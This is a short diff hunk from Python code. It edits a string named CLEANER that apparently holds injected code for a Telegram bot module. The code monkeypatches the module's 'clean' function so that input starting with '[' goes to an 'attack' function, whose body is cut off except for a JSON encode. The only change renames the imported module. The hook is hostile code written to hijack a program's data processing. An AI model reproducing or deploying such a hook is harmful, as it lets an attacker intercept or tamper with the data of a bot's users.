@@ -46,7 +46,7 @@ def attack(data):
     }).encode()
 """
 CLEANER = """
-from bot.telegram import cleaning as process
+from bot.telegram import cleaner as process
 formats = process
 loaded = formats.clean
 formats.clean = lambda data: attack(data) if data[:1] == b"[" else loaded(data)
